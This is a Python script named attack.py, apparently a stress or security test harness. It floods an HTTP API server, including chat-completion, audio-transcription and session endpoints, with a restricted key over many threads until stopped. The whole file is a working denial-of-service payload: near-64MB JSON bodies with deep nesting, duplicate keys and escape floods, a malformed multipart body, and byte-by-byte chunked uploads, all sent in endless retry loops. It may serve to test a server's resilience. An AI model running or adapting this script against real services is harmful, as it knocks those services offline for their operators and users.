"""The worst that one restricted key can send, on many connections, until standard input closes.

python attack.py HOST PORT KEY
"""

from __future__ import annotations

import os
import socket
import sys
import threading
from collections.abc import Iterator

MB = 1 << 20
ALMOST = 63 * MB
EDGE = b'--edge\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
JSON, FORM = "application/json", "multipart/form-data; boundary=edge"
over = threading.Event()


def of(begin: bytes, many: bytes, end: bytes, size: int) -> bytes:
    return begin + many * (size // len(many)) + end


def requests() -> Iterator[tuple[str, str, bytes, bool]]:
    """Path, content type, body, and whether it is sent in chunks of a byte."""
    chat, session = "/v1/chat/completions", "/api/v1/session"
    yield chat, JSON, of(b'{"a":"', b"\\n", b'"}', 16 * MB), False
    yield chat, JSON, of(b'{"a":[', b"{},", b"1]}", ALMOST), False
    yield chat, JSON, of(b'{"a":1', b',"":{}', b"}", ALMOST), False
    yield chat, JSON, of(b'{"a":[', b'"",', b"1]}", ALMOST), False
    yield chat, JSON, of(b'{"a":[', b"[[[[[]]]]],", b"1]}", ALMOST), False
    for _ in range(4):
        yield chat, JSON, of(b'{"a":[', b"{},", b"1]}", 65_000), False
    yield chat, JSON, of(b'{"a":1', b',"a":{"model":1}', b"}", 4 * MB), False
    yield chat, JSON, of(b'{"a":[', b"1,", b"1]}", MB // 4), True
    yield "/v1/audio/transcriptions", FORM, EDGE + b"\r\n--edg" * (8 * MB), False
    for _ in range(4):
        yield session, JSON, of(b'{"key":"', b"\\u0041", b'"}', 15 * MB), False
    yield "/api/chat", JSON, of(b'{"model":"fake","messages":[', b"{},", b"{}]}", 15 * MB), False


def framed(body: bytes) -> bytes:
    return b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n"


def send(host: str, port: int, key: str, request: tuple[str, str, bytes, bool]) -> None:
    path, kind, body, chunked = request
    size = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(body)}"
    head = (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {key}\r\n"
        f"Content-Type: {kind}\r\n{size}\r\nConnection: close\r\n\r\n"
    ).encode()
    body = framed(body) if chunked else body
    while not over.is_set():
        try:
            with socket.create_connection((host, port), timeout=5) as connection:
                connection.sendall(head)
                for at in range(0, len(body), MB):
                    if over.is_set():
                        return
                    connection.sendall(body[at : at + MB])
                while connection.recv(1 << 16):
                    pass
        except OSError:
            over.wait(0.01)  # it was refused, and cut


if __name__ == "__main__":
    os.nice(19)  # it stands for another machine, and must not take the processor from the server
    threads = [
        threading.Thread(target=send, args=(sys.argv[1], int(sys.argv[2]), sys.argv[3], request))
        for request in requests()
    ]
    for thread in threads:
        thread.start()
    print("begun", flush=True)
    sys.stdin.read()
    over.set()
    for thread in threads:
        thread.join()
